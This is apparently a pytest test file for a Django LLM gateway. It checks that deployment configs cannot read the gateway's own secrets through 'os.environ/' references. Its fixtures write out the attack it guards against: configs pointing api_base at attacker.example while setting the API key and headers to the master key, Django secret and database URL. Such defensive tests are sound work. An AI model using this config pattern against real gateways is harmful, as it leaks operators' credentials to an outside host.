"""A deployment may read only the environment variables an operator allows, never the gateway's own.

The attack: ``api_key: os.environ/GATEWAY_MASTER_KEY`` and ``extra_headers`` naming
``os.environ/DJANGO_SECRET_KEY`` and ``os.environ/DATABASE_URL`` on a deployment whose ``api_base`` is
the attacker's. It is refused where it is written (config import, admin, management API, services)
and where it is resolved (a row written around those checks is not called: see
tests/e2e/test_env_references.py for the live gateway).
"""

from textwrap import dedent

import pytest
from asgiref.sync import sync_to_async
from django.core.exceptions import ValidationError

from llm_gateway.checks import env_reference_settings_check
from llm_gateway.env_references import env_reference_allowed
from llm_gateway.lookups import deployment_snapshot
from llm_gateway.models import Deployment
from llm_gateway.services.config_import import ConfigImportError, config_import
from llm_gateway.services.deployments import deployment_create
from llm_gateway.services.health_checks import deployment_probe
from providers.credentials import EnvReferenceError, env_reference
from tests.llm_gateway.management_factories import assert_openai_error
from tests.llm_gateway.test_admin import url

pytest_plugins = ["tests.llm_gateway.management_factories"]
pytestmark = pytest.mark.django_db

GATEWAY_SECRETS = {
    "GATEWAY_MASTER_KEY": "sk-gateway-master-not-for-upstreams",
    "DJANGO_SECRET_KEY": "django-secret-not-for-upstreams",
    "DATABASE_URL": "postgres://gateway:db-password-not-for-upstreams@db/gateway",
}
ATTACK_HEADERS = {"X-Secret": "os.environ/DJANGO_SECRET_KEY", "X-Db": "os.environ/DATABASE_URL"}


@pytest.fixture
def gateway_secrets(monkeypatch):
    """Set the gateway's own variables, so a reference that reads them would find a value."""
    for name, value in GATEWAY_SECRETS.items():
        monkeypatch.setenv(name, value)


@pytest.fixture
def env_rule(settings):
    """Return a setter of the allow-rule settings."""

    def set_rule(*, prefixes: list[str] = ("LLM_",), names: frozenset[str] = frozenset()) -> None:
        rule = {"ENV_REFERENCE_PREFIXES": list(prefixes), "ENV_REFERENCE_NAMES": names}
        settings.GATEWAY = {**settings.GATEWAY, **rule}

    return set_rule


class TestRule:
    @pytest.mark.parametrize(
        "name", ["OPENAI_API_KEY", "AZURE_API_BASE", "AZURE_API_VERSION", "ANTHROPIC_API_KEY", "GROQ_API_KEY"]
    )
    def test_the_providers_own_variables_are_allowed(self, name):
        assert env_reference_allowed(name)

    def test_names_with_the_configured_prefix_or_listed_are_allowed(self, env_rule):
        env_rule(prefixes=["LLM_", "VENDOR_"], names=frozenset({"MY_KEY"}))

        assert env_reference_allowed("LLM_OPENAI_KEY")
        assert env_reference_allowed("VENDOR_KEY")
        assert env_reference_allowed("MY_KEY")
        assert not env_reference_allowed("OTHER_KEY")
        assert not env_reference_allowed("HOME")

    @pytest.mark.parametrize(
        "name", ["GATEWAY_MASTER_KEY", "DJANGO_SECRET_KEY", "DATABASE_URL", "REDIS_URL", "CELERY_BROKER_URL"]
    )
    def test_the_gateways_own_variables_are_refused_whatever_the_settings_say(self, env_rule, name):
        env_rule(prefixes=["GATEWAY_", "DJANGO_", "D", "R", "C"], names=frozenset({name}))

        assert not env_reference_allowed(name)


class TestSystemCheck:
    def test_the_defaults_pass(self):
        assert env_reference_settings_check(None) == []

    @pytest.mark.parametrize("prefix", ["GATEWAY_", "DJANGO", "DATABASE", "REDIS_", "CELERY_X", "D", ""])
    def test_it_refuses_a_prefix_reaching_the_gateways_variables(self, env_rule, prefix):
        env_rule(prefixes=["LLM_", prefix])

        assert [error.id for error in env_reference_settings_check(None)] == ["llm_gateway.E011"]

    def test_it_refuses_a_name_of_the_gateways_variables(self, env_rule):
        env_rule(names=frozenset({"GATEWAY_MASTER_KEY", "LLM_OK"}))

        [error] = env_reference_settings_check(None)
        assert error.id == "llm_gateway.E010"
        assert "GATEWAY_MASTER_KEY" in error.msg and "LLM_OK" not in error.msg


class TestLibrary:
    def test_without_a_rule_any_variable_is_read_as_before(self, monkeypatch):
        monkeypatch.setenv("SOME_VARIABLE", "value")

        assert env_reference("os.environ/SOME_VARIABLE") == "value"

    def test_with_a_rule_a_refused_variable_raises_and_is_not_read(self, monkeypatch):
        monkeypatch.setenv("SOME_VARIABLE", "value")
        asked = []

        def rule(name: str) -> bool:
            asked.append(name)
            return False

        with pytest.raises(EnvReferenceError) as raised:
            env_reference("os.environ/SOME_VARIABLE", allowed=rule)
        assert raised.value.name == "SOME_VARIABLE" and "value" not in str(raised.value)
        assert asked == ["SOME_VARIABLE"]


class TestConfigImport:
    def test_it_refuses_the_attack_with_each_line_and_reads_nothing(self, tmp_path, gateway_secrets):
        path = tmp_path / "config.yaml"
        path.write_text(
            dedent(
                """\
                model_list:
                  - model_name: leak
                    litellm_params:
                      model: openai/gpt-4o
                      api_base: https://attacker.example/v1
                      api_key: os.environ/GATEWAY_MASTER_KEY
                      extra_headers:
                        X-Secret: os.environ/DJANGO_SECRET_KEY
                        X-Db: os.environ/DATABASE_URL
                """
            )
        )

        with pytest.raises(ConfigImportError) as raised:
            config_import(path=path)

        errors = raised.value.errors
        assert [error.split(": ", 1)[0] for error in errors] == [
            f"{path}, line 6",
            f"{path}, line 7",
            f"{path}, line 7",
        ]
        assert "model_list[0].litellm_params.api_key" in errors[0] and "GATEWAY_MASTER_KEY" in errors[0]
        assert any("DJANGO_SECRET_KEY" in error for error in errors[1:])
        assert any("DATABASE_URL" in error for error in errors[1:])
        assert not any(secret in "\n".join(errors) for secret in GATEWAY_SECRETS.values())
        assert not Deployment.objects.exists()

    def test_an_allowed_variable_still_works(self, tmp_path, monkeypatch):
        monkeypatch.setenv("LLM_ORG_HEADER", "org-42")
        path = tmp_path / "config.yaml"
        path.write_text(
            dedent(
                """\
                model_list:
                  - model_name: ok
                    litellm_params:
                      model: openai/gpt-4o
                      api_key: os.environ/OPENAI_API_KEY
                      extra_headers:
                        X-Org: os.environ/LLM_ORG_HEADER
                """
            )
        )

        config_import(path=path)

        deployment = Deployment.objects.get()
        assert deployment.credential_env == "OPENAI_API_KEY"
        assert deployment.extra_params == {"extra_headers": {"X-Org": "org-42"}}


class TestManagementApi:
    @pytest.mark.parametrize(
        ("params", "param"),
        [
            ({"api_key": "os.environ/GATEWAY_MASTER_KEY"}, "litellm_params.api_key"),
            ({"api_base": "os.environ/DATABASE_URL"}, "litellm_params.api_base"),
            ({"api_version": "os.environ/REDIS_URL"}, "litellm_params.api_version"),
            ({"extra_headers": ATTACK_HEADERS}, "litellm_params.extra_headers"),
            ({"organization": "os.environ/DJANGO_SECRET_KEY"}, "litellm_params.organization"),
            (
                {"aws_secret_access_key": "os.environ/CELERY_BROKER_URL"},
                "litellm_params.aws_secret_access_key",
            ),
        ],
    )
    def test_it_refuses_a_reference_to_a_gateway_variable_naming_the_field(self, api, params, param):
        body = {"model_name": "leak", "litellm_params": {"model": "openai/gpt-4o", **params}}

        error = assert_openai_error(api.post("/model/new", body), 400, "invalid_request_error", param)

        assert "may not read" in error["message"]
        assert not Deployment.objects.exists()

    def test_it_refuses_the_attack_on_update_too(self, api):
        deployment = deployment_create(model_id="d1", model_name="m", provider="openai", model="gpt-4o")

        response = api.post(
            "/model/update",
            {"model_info": {"id": "d1"}, "litellm_params": {"extra_headers": ATTACK_HEADERS}},
        )

        assert_openai_error(response, 400, "invalid_request_error", "litellm_params.extra_headers")
        deployment.refresh_from_db()
        assert deployment.extra_params == {}

    def test_an_allowed_variable_is_kept(self, api):
        body = {
            "model_name": "ok",
            "litellm_params": {
                "model": "openai/gpt-4o",
                "api_key": "os.environ/LLM_TEAM_KEY",
                "extra_headers": {"X-Org": "os.environ/LLM_ORG"},
            },
        }

        response = api.post("/model/new", body)

        assert response.status_code == 200, response.content
        deployment = Deployment.objects.get()
        assert (deployment.credential_env, deployment.extra_params) == (
            "LLM_TEAM_KEY",
            {"extra_headers": {"X-Org": "os.environ/LLM_ORG"}},
        )


class TestAdmin:
    def deployment_add_form(self, **overrides: str) -> dict[str, str]:
        data = {
            "model_name": "leak",
            "provider": "openai",
            "model": "gpt-4o",
            "mode": "chat",
            "enabled": "on",
            "api_base": "https://attacker.example/v1",
            "api_version": "",
            "api_key": "",
            "timeout": "",
            "order": "1",
            "weight": "1.0",
            "rpm": "",
            "tpm": "",
            "model_id": "leak",
            "extra_params": "{}",
            "model_info": "{}",
            "_save": "Save",
        }
        return data | overrides

    @pytest.mark.parametrize(
        ("field", "value"),
        [
            ("api_key", "os.environ/GATEWAY_MASTER_KEY"),
            ("api_base", "os.environ/DATABASE_URL"),
            ("api_version", "os.environ/DJANGO_SECRET_KEY"),
            ("extra_params", '{"extra_headers": {"X-Secret": "os.environ/DJANGO_SECRET_KEY"}}'),
        ],
    )
    def test_the_deployment_form_refuses_a_gateway_variable(self, admin_client, field, value):
        response = admin_client.post(url("deployment", "add"), self.deployment_add_form(**{field: value}))

        assert response.status_code == 200  # the form again, with the error
        assert response.context["adminform"].form.errors.keys() == {field}
        assert not Deployment.objects.exists()

    def test_the_deployment_form_accepts_an_allowed_variable(self, admin_client):
        response = admin_client.post(
            url("deployment", "add"),
            self.deployment_add_form(
                api_key="os.environ/LLM_TEAM_KEY",
                extra_params='{"extra_headers": {"X-Org": "os.environ/LLM_ORG"}}',
            ),
        )

        assert response.status_code == 302
        assert Deployment.objects.get().credential_env == "LLM_TEAM_KEY"


def test_the_services_refuse_a_gateway_variable_whoever_calls_them():
    with pytest.raises(ValidationError) as raised:
        deployment_create(
            model_name="leak",
            provider="openai",
            model="gpt-4o",
            api_key="os.environ/GATEWAY_MASTER_KEY",
            extra_params={"extra_headers": ATTACK_HEADERS},
        )

    assert set(raised.value.message_dict) == {"api_key", "extra_params"}
    assert not Deployment.objects.exists()


def attack_row(upstream_url: str) -> Deployment:
    """Insert the attack straight into the table, as a row written before the checks could be."""
    return Deployment.objects.create(
        model_id="leak",
        model_name="leak",
        provider="openai",
        model="gpt-4o",
        api_base=f"{upstream_url}/leak/v1",
        credential_env="GATEWAY_MASTER_KEY",
        api_version="os.environ/DJANGO_SECRET_KEY",
        extra_params={"extra_headers": ATTACK_HEADERS, "organization": "os.environ/DATABASE_URL"},
    )


def test_a_row_with_the_attack_resolves_to_nothing_and_says_why(upstream, gateway_secrets):
    snapshot = deployment_snapshot(attack_row(upstream.url))

    assert "GATEWAY_MASTER_KEY" in snapshot.refused
    upstream_fields = (snapshot.upstream.api_key, snapshot.upstream.api_base, snapshot.upstream.api_version)
    assert upstream_fields == (None, None, None)
    assert snapshot.upstream.extra_headers == {}


@pytest.mark.django_db(transaction=True)
async def test_the_health_check_does_not_call_a_row_with_the_attack(upstream, gateway_secrets):
    deployment = await sync_to_async(attack_row)(upstream.url)

    result = await deployment_probe(deployment=deployment)

    assert not result.healthy
    assert "GATEWAY_MASTER_KEY" in result.error
    assert upstream.requests == []
